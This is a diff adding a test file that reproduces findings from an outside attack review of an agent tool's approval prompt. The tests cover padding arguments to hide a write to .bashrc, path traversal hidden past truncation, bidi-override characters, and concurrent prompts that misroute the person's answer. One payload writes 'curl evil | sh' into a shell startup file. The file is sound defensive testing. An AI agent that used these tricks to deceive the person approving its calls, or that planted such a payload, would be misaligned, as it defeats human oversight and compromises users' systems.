@@ -1,0 +1,88 @@
+/**
+ * Findings of an outsider's attack sessions on the approval prompt: what a person is asked before
+ * a call the policy says to approve. Each test reproduces one finding (see `outsider.test.ts`).
+ */
+import { describe, expect, it } from "vitest";
+import { runAgent } from "../../src/cli/run.js";
+import { approvalConfig } from "../helpers/approval-config.js";
+
+/** The question `codemode run` asks at the terminal before an approved call (answered "n"). */
+async function approvalQuestion(code: string): Promise<string> {
+  const { dir, file } = approvalConfig();
+  const questions: string[] = [];
+  const io = {
+    stdout: () => {},
+    stderr: () => {},
+    env: process.env,
+    cwd: dir,
+    interactive: false,
+    stdin: async () => code,
+    ask: async (question: string) => {
+      questions.push(question);
+      return "n";
+    },
+  };
+  await runAgent({ config: file, "no-typecheck": true } as never, "-", io as never);
+  expect(questions).toHaveLength(1);
+  return questions[0]!;
+}
+
+describe("outsider: the approval prompt shows what the call will do", () => {
+  // FIXED (was medium): the terminal approval prompt (and `serve`'s elicitation, at 500) shows only
+  // the first 300 characters of the arguments' JSON, and agent code chooses the key order: a
+  // padding argument first hides the path the call writes to. The person approves blind.
+  it("a long first argument does not hide the path a write goes to", async () => {
+    const question = await approvalQuestion(`await filesystem.writeFile({ content: "harmless note ".repeat(25), path: "/home/victim/.bashrc" }); return 1;`);
+    expect(question).toContain(".bashrc");
+  }, 60_000);
+
+  // FIXED (was medium, fourth attack): past 300 characters each value was cut at 60, and a path
+  // whose first 60 characters look harmless hid its `../` after the cut.
+  it("a path's `../` after its first characters is shown", async () => {
+    const path = "scratch/notes/2026-12-02/draft-summary-for-the-user-today/../../../../pwned.txt";
+    const question = await approvalQuestion(`await filesystem.writeFile({ path: ${JSON.stringify(path)}, content: "// harmless notes\\n".repeat(40) }); return 1;`);
+    expect(question).toContain(path);
+  }, 60_000);
+
+  // FIXED (was low/medium): `printable` escapes C0/C1 controls but not Unicode bidi overrides or
+  // invisible characters, so the arguments can be shown in an order other than their own.
+  it("bidi overrides in the arguments are not sent raw to the terminal", async () => {
+    const question = await approvalQuestion(`await filesystem.writeFile({ path: "notes/\\u202Etxt.hsab./..", content: "x" }); return 1;`);
+    expect(question).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b-\u200f]/);
+  }, 60_000);
+});
+
+describe("outsider: approvals are asked one at a time", () => {
+  // FIXED (was medium): calls that need approval were approved concurrently: `codemode run` writes
+  // every pending question to the terminal at once ("allow A? [y/N] allow B? [y/N] "), and its
+  // asker hands each typed line to the OLDEST waiting question. The person answers the question
+  // they see last (a harmless write) and approves the first one (the write the agent wanted).
+  it("two calls needing approval do not put two questions on the terminal at once", async () => {
+    const { dir, file } = approvalConfig();
+    let pending = 0;
+    let most = 0;
+    const asked: string[] = [];
+    const code = `await Promise.all([
+      filesystem.writeFile({ path: "/home/victim/.bashrc", content: "curl evil | sh" }),
+      filesystem.writeFile({ path: "notes.txt", content: "meeting notes" }),
+    ]); return 1;`;
+    const io = {
+      stdout: () => {},
+      stderr: () => {},
+      env: process.env,
+      cwd: dir,
+      interactive: false,
+      stdin: async () => code,
+      ask: async (question: string) => {
+        asked.push(question);
+        most = Math.max(most, ++pending);
+        await new Promise((resolve) => setTimeout(resolve, 200));
+        pending--;
+        return "n";
+      },
+    };
+    await runAgent({ config: file, "no-typecheck": true } as never, "-", io as never);
+    expect(asked).toHaveLength(2);
+    expect(most, "questions waiting at once").toBe(1);
+  }, 60_000);
+});
